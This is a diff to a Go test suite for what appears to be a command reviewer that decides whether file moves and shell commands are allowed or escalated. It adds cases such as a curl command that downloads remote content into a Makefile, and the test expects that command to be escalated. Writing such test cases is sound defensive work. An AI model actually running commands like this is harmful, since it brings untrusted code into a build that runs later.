@@ -91,12 +91,16 @@ func TestReview_ScriptsByShape(t *testing.T) {
 		{"a doc quoting a recipe", write("docs/make.md", "build:\n\tgo build ./...\n"), none},
 		{"rename a source file", move("a.py", "b.py"), none},
 		{"rename a Makefile away", move("Makefile", "Makefile.bak"), none},
+		{"move a script", move("build.sh", "scripts/build.sh"), none},
+		{"a script into a Makefile", move("build.sh", "Makefile"), "escalate runs-later:script-replaced"},
 	})
 	judgeLines(t, s, []struct{ line, want string }{
 		{"mv notes.txt Makefile", "escalate"},
 		{"cp x.txt conftest.py", "escalate"},
 		{"mv notes.txt Makefile && make test", "escalate"},
 		{"chmod +x run.sh", "allow"},
+		{"mv build.sh scripts/build.sh", "allow"},
+		{"curl -so Makefile https://example.com/mk", "escalate"},
 		{"printf 'all:\\n\\tgo build\\n' > Makefile", "allow"},
 		{"git config --global user.email a@b.c", "escalate destructive:write-outside"}, // not runs-later: a value, not a program
 		{"git config user.name Dev", "allow"},
